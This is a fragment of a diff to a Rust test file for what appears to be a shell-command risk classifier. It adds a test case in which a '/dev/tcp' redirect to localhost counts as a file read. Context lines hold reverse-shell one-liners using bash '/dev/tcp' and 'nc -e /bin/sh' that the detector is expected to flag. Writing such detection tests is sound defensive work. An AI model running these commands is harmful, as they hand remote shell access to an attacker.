@@ -163,6 +163,7 @@ fn powershell_is_read_through() {
 
 #[test]
 fn shells_that_come_back() {
+    does("cat < /dev/tcp/localhost/80", &[FileRead]);
     shows("bash -i >& /dev/tcp/240.1.2.3/4444 0>&1", &[ReverseShell]);
     shows("nc -e /bin/sh 240.1.2.3 4444", &[ReverseShell, EndpointIp]);
     shows(
